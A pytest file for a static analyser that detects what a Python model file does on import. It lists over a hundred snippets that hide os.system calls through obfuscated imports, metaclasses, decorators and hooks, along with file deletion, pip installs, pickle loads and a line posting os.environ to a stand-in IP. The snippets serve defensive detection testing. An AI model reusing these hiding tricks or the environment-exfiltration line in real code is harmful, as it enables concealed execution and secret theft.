"""What importing a Python file would do: tricks are named or not followed, ordinary modelling code is neither."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.checks.vulnerabilities.code_reaches_outside import LOST, STRONG
from assay.facts.program import PythonSource, Reach
from tests.conftest import read

# what acts when the file is imported, by what it does in the end
NAMED = {
    "from-hub": "from transformers import AutoModel\nAutoModel.from_pretrained('a/b')",
    "hub-or-here": "from transformers import AutoModel\nAutoModel.from_pretrained('.' if len(__file__) else 'a/b')",
    "here-with-code": "from transformers import AutoModel\nAutoModel.from_pretrained('./a', trust_remote_code=True)",
    "here-with-options": "from transformers import AutoModel as A\nA.from_pretrained('.', **{'trust_remote_code': 1})",
    "map": "import os\nlist(map(os.system, ['true']))",
    "atexit": "import atexit, os\natexit.register(os.system, 'true')",
    "atexit-function": "import atexit, os\ndef f(): os.system('true')\natexit.register(f)",
    "atexit-decorator": (
        "import atexit, os\n@atexit.register\ndef f(): pass\natexit.register(lambda: os.system('true'))"
    ),
    "partial": "import functools, os\nf = functools.partial(os.system, 'true')\nf()",
    "dictionary": "import os\nd = {'a': os.system}\nd['a']('true')",
    "list": "import os\nl = []\nl.append(os.system)\nl[0]('true')",
    "default": "import os\ndef f(run=os.system): run('true')\nf()",
    "walrus": "import os\nif (r := os.system): r('true')",
    "loop": "import os\nfor f in (os.system,): f('true')",
    "comprehension": "import os\n[f('true') for f in [os.system]]",
    "conditional": "import os\n(os.system if True else print)('true')",
    "unpacked": "import os\na, b = os.system, 1\na('true')",
    "star-argument": "import os\ndef f(*a): a[0]('true')\nf(os.system)",
    "keyword": "import os\ndef f(**k): k['r']('true')\nf(r=os.system)",
    "returned": "import os\ndef g(): return os.system\ng()('true')",
    "closure": "import os\ndef g():\n    def h(): os.system('true')\n    return h\ng()()",
    "generator": "import os\ndef g(): yield os.system\nfor f in g(): f('true')",
    "attribute": "import os\nclass A: pass\nA.run = os.system\nA.run('true')",
    "instance": (
        "import os\nclass A:\n    def __init__(self): self.r = os.system\n    def go(self): self.r('true')\n"
        "A().go()"
    ),
    "import-sum": "__import__('sub' + 'process').Popen(['true'])",
    "import-join": "import importlib\nimportlib.import_module(''.join(['o', 's'])).system('true')",
    "import-reversed": "__import__('so'[::-1]).system('true')",
    "import-format": "__import__('{}s'.format('o')).system('true')",
    "import-percent": "__import__('%ss' % 'o').system('true')",
    "import-fstring": "a = 'o'\n__import__(f'{a}s').system('true')",
    "import-chr": "__import__(chr(111) + chr(115)).system('true')",
    "import-base64": "import base64\n__import__(base64.b64decode('b3M=').decode()).system('true')",
    "import-rot13": "import codecs\n__import__(codecs.decode('bf', 'rot13')).system('true')",
    "import-hex": "__import__(bytes.fromhex('6f73').decode()).system('true')",
    "import-replace": "__import__('oxs'.replace('x', '')).system('true')",
    "vars": "import os\nvars(os)['system']('true')",
    "vars-get": "import os\nvars(os).get('system')('true')",
    "dict": "import os\nos.__dict__['system']('true')",
    "modules": "import sys\nsys.modules['os'].system('true')",
    "modules-get": "import sys\nsys.modules.get('os').system('true')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "globals": "import os\nglobals()['os'].system('true')",
    "builtins": "__builtins__['eval']('1')",
    "builtins-module": "import builtins\ngetattr(builtins, 'ex' + 'ec')('pass')",
    "globals-builtins": "globals()['__builtins__']['exec']('pass')",
    "star-import": "from os import *\nsystem('true')",
    "try": "try:\n    import os as m\nexcept ImportError:\n    m = None\nm.system('true')",
    "alias-of-eval": "e = eval\ne('1')",
    "exec-compile": "exec(compile('pass', 'x', 'exec'))",
    "breakpoint": "breakpoint()",
    "metaclass": "import os\nclass T(type):\n    def __new__(*a): os.system('true')\nclass M(metaclass=T): pass",
    "metaclass-init": "import os\nclass T(type):\n    def __init__(*a): os.system('true')\nclass M(metaclass=T): pass",
    "metaclass-lambda": "import os\nclass M(metaclass=lambda *a: os.system('true')): pass",
    "metaclass-name": "import os\nclass M(metaclass=os.system): pass",
    "init-subclass": "import os\nclass A:\n    def __init_subclass__(cls): os.system('true')\nclass M(A): pass",
    "set-name": "import os\nclass D:\n    def __set_name__(self, o, n): os.system('true')\nclass M:\n    d = D()",
    "class-getitem": "import os\nclass A:\n    def __class_getitem__(cls, k): os.system('true')\nA[1]",
    "type-call": "import os\ntype('A', (), {'__init_subclass__': lambda **k: os.system('true')})",
    "decorator": "import os\ndef d(f): os.system('true')\n@d\ndef f(): pass",
    "decorator-name": "import os\n@os.system\ndef f(): pass",
    "decorator-factory": "import os\ndef d(x):\n    def i(f): os.system(x)\n    return i\n@d('true')\ndef f(): pass",
    "decorator-class": "import os\nclass D:\n    def __init__(self, f): os.system('true')\n@D\ndef f(): pass",
    "context": "import os\nclass C:\n    def __enter__(self): os.system('true')\nwith C(): pass",
    "operator": "import os\nclass C:\n    def __add__(self, o): os.system('true')\nC() + 1",
    "property": "import os\nclass C:\n    @property\n    def p(self): os.system('true')\nC().p",
    "module-getattr": "import os\ndef __getattr__(name): os.system('true')",
    "thread": "import os, threading\ndef f(): os.system('true')\nthreading.Thread(target=f).start()",
    "thread-name": "import os, threading\nthreading.Timer(1, os.system, ['true']).start()",
    "signal": "import os, signal\ndef f(*a): os.system('true')\nsignal.signal(2, f)",
    "finalize": "import os, weakref\nclass A: pass\nweakref.finalize(A(), os.system, 'true')",
    "settrace": "import os, sys\ndef f(*a): os.system('true')\nsys.settrace(f)",
    "excepthook": "import os, sys\ndef f(*a): os.system('true')\nsys.excepthook = f",
    "sort-key": "import os\nsorted(['true'], key=os.system)",
    "annotation": "import os\ndef f(x: os.system('true')): pass",
    "annotated": "import os\nx: os.system('true')",
    "formatted": "import os\nf'{os.system(chr(65))}'",
    "ctypes": "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'pass')",
    "pathlib": "from pathlib import Path\nPath('x').write_text('x')",
    "unlink": "from pathlib import Path\nPath('x').unlink()",
    "rmtree": "import shutil\nshutil.rmtree('x')",
    "open-write": "open('x', mode='w').write('x')",
    "remove": "import os\nos.remove('x')",
    "pip": "import pip\npip.main(['install', 'x'])",
    "ensurepip": "import ensurepip\nensurepip.bootstrap()",
    "setuptools": "from setuptools import setup\nsetup(name='x')",
    "pty": "import pty\npty.spawn('true')",
    "multiprocessing": "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('true',)).start()",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('true'))",
    "code": "import code\ncode.InteractiveInterpreter().runsource('1')",
    "codeop": "import codeop\ncodeop.compile_command('1')",
    "runpy": "import runpy\nrunpy.run_path('x.py')",
    "function-type": "import types\ntypes.FunctionType((lambda: 1).f, {})()",
    "marshal": "import marshal\nmarshal.loads(b'x')",
    "torch-load": "import torch\ntorch.load('x')",
    "joblib": "import joblib\njoblib.load('x')",
    "numpy": "import numpy as np\nnp.load('x', allow_pickle=True)",
    "hub": "import torch\ntorch.hub.load('a/b', 'c')",
    "cpp": "from torch.utils import cpp_extension\ncpp_extension.load('x', ['x.cpp'])",
    "urllib": "import urllib.request as u\nu.urlretrieve('http://192.0.2.1/x')",
    "requests": "from requests import post\npost('http://192.0.2.1')",
    "http": "import http.client\nhttp.client.HTTPConnection('192.0.2.1').request('GET', '/')",
    "ftplib": "import ftplib\nftplib.FTP('192.0.2.1')",
    "hub-download": "from huggingface_hub import hf_hub_download as d\nd('a/b', 'c')",
    "from-pretrained": "from transformers import AutoModel\nAutoModel.from_pretrained('a/b')",
    "environment": "import os, requests\nrequests.post('http://192.0.2.1', json=dict(os.environ))",
    "type-checking": "TYPE_CHECKING = True\nif TYPE_CHECKING:\n    import os\n    os.system('true')",
    "match": "import os\nmatch os.system:\n    case f: os.system('true')",
    "except": "import os\ntry: raise ValueError\nexcept ValueError: os.system('true')",
    "operator-call": "import operator, os\noperator.call(os.system, 'true')",
    "reduce": "import functools, os\nfunctools.reduce(os.system, ['true', ''])",
    "late": "import os\nrun = print\ndef f(): run('true')\nf()\nrun = os.system\nf()",
    "global": "import os\ndef g():\n    global run\n    run = os.system\ng()\nrun('true')",
    "setattr": "import os\nclass A: pass\na = A()\nsetattr(a, 'r', os.system)\na.r('true')",
}  # fmt: skip
# what acts through something that is not followed: open, never nothing
LOST_TRICKS = {
    "computed-import": "import importlib\nimportlib.import_module(open('x').read())",
    "computed-name": "import os\ngetattr(os, open('x').read())('true')",
    "subclasses": "().__class__.__base__.__subclasses__()[0]('true')",
    "function-globals": "def f(): pass\nf.__globals__['x']",
    "frame": "import sys\nsys._getframe(1)",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('true')",
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'true')(os)",
    "unknown-package": "import evil_package\nevil_package.run()",
    "unknown-decorator": "from evil_package import d\n@d\ndef f(): pass",
    "unknown-name": "run('true')",
    "parameter": "import evil_package\ndef f(g): g('true')\nf(evil_package.x)",
    "meta-path": "import sys\nclass F: pass\nsys.meta_path.insert(0, F())",
    "path-hooks": "import sys\nsys.path_hooks.append(print)",
    "gc-callbacks": "import gc\ngc.callbacks.append(print)",
    "library-unvetted": "import torch\ntorch.hub_x.y.z()",
    "getattr-as-value": "import os\nnext(map(getattr, [os], [open('x').read()]))('true')",
    "modules-computed": "import sys\nsys.modules[open('x').read()].system_('true')",
    "unknown-base": "import evil_package\nclass A(evil_package.make()): pass",
    "loader": "import importlib.util\nimportlib.util.spec_from_file_location('x', 'x.py').loader.exec_module(1)",
    "zipimport": "import zipimport\nzipimport.zipimporter('x.zip').load_module('x')",
}
# ordinary modelling code
ORDINARY = {
    "definitions": (
        "import torch\nfrom torch import nn\nclass M(nn.Module):\n"
        "    def forward(self, x): return self.f(x).run()"
    ),
    "system-name": "import platform\nprint(platform.system().lower(), platform.machine())",
    "logger": "from transformers.utils import logging\nlogger = logging.get_logger(__name__)\nlogger.warning_once('x')",
    "lazy": (
        "import sys\nfrom transformers.utils import _LazyModule\n"
        "sys.modules[__name__] = _LazyModule(__name__, globals()['__file__'], {}, module_spec=__spec__)"
    ),
    "optional": "try:\n    from flash_attn import f\nexcept ImportError:\n    f = None\nX = {'a': f}",
    "dataclass": (
        "from dataclasses import dataclass, field\n@dataclass(frozen=True)\nclass A:\n"
        "    x: list = field(default_factory=list)"
    ),
    "register": (
        "from transformers import AutoConfig, PretrainedConfig\nclass C(PretrainedConfig): pass\n"
        "AutoConfig.register('c', C)\nC.register_for_auto_class()"
    ),
    "script": "import torch\n@torch.jit.script\ndef f(x):\n    return x.whatever()\ng = torch.compile(f)",
    "table": (
        "import re, math\nP = re.compile('a|b')\nT = {k: math.sqrt(v) for k, v in zip('ab', range(2))}\n"
        "T.update(a=1)"
    ),
    "own-decorator": (
        "import functools\ndef d(f):\n    @functools.wraps(f)\n    def w(*a, **k): return f(*a, **k)\n    return w\n"
        "@d\ndef g(x): return x"
    ),
    "path": (
        "import os, sys\nsys.path.append(os.path.dirname(os.path.abspath(__file__)))\n"
        "os.environ['TOKENIZERS_PARALLELISM'] = 'false'"
    ),
    "main": "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])",
    "constants": (
        "import torch\nMASK = torch.tensor([1]) * -1e9\n"
        "D = torch.device('cuda' if torch.cuda.is_available() else 'cpu')"
    ),
    "read": "import json, pathlib\nT = json.loads(pathlib.Path(__file__).with_name('t.json').read_text())",
    "named-tuple": (
        "from collections import namedtuple, OrderedDict\nP = namedtuple('P', 'a b')\nclass Q(P): pass\n"
        "O = OrderedDict([('a', P)])"
    ),
    "version": (
        "from packaging import version\nimport torch\n"
        "N = version.parse(torch.__version__) >= version.parse('2.0')"
    ),
    "enum": "import enum\nclass E(str, enum.Enum):\n    A = 'a'\nB = {e.value: e.name.lower() for e in E}",
    "triton": (
        "import triton\nimport triton.language as tl\n"
        "@triton.autotune(configs=[triton.Config({}, num_warps=4)], key=['n'])\n@triton.jit\n"
        "def k(x, n): tl.load(x)"
    ),
    "from-here": (
        "import torch, transformers\nT = transformers.AutoTokenizer.from_pretrained('./sub', use_fast=True)\n"
        "class A:\n    t = transformers.AutoTokenizer.from_pretrained('.')"
    ),
    "subclass-activation": (
        "from torch import nn\nclass A(nn.Module): pass\nACT = {'a': A(), 'r': nn.ReLU()}\nACT['a'].eval()"
    ),
}  # fmt: skip


def at_import(source: str) -> list[Reach]:
    reading = read("modeling_x.py", source.encode())
    found = next(fact for fact in reading.facts if isinstance(fact, PythonSource))
    return [reach for reach in found.reaches if reach.at_import and reach.capability in STRONG | LOST]


@pytest.mark.parametrize("trick", NAMED)
def test_what_acts_at_import_is_named(trick: str) -> None:
    assert [reach for reach in at_import(NAMED[trick]) if reach.capability in STRONG]


@pytest.mark.parametrize("trick", LOST_TRICKS)
def test_what_cannot_be_followed_at_import_is_said(trick: str) -> None:
    assert at_import(LOST_TRICKS[trick])


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_code_is_followed_and_reaches_nothing(name: str) -> None:
    assert at_import(ORDINARY[name]) == []


@given(st.lists(st.sampled_from([*NAMED.values(), *ORDINARY.values()]), min_size=2, max_size=4))
def test_any_mixture_is_followed_to_its_end(pieces: list[str]) -> None:
    assert read("modeling_x.py", "\n".join(pieces).encode()).obstacle is None


@pytest.mark.parametrize(
    "source",
    [
        "x = [1]\n" + "x = [x, x, x, x]\n" * 200,
        "def f0(x): return [x]\n"
        + "".join(f"def f{i}(x): return [f{i - 1}(x), f{i - 1}([x])]\n" for i in range(1, 60))
        + "f59(1)",
        "x = 'a'\n" + "x = x + x\n" * 200,
        "x = " + " + ".join(["'a'"] * 3000),
        "if a: pass\n" + "elif b: pass\n" * 900,
        "import os\n" + "x = os.system\n" * 3000,
    ],
    ids=["lists", "calls", "texts", "sum", "branches", "mentions"],
)  # fmt: skip
def test_what_grows_without_bound_is_cut(source: str) -> None:
    reading = read("modeling_x.py", source.encode())
    assert reading.facts or reading.obstacle
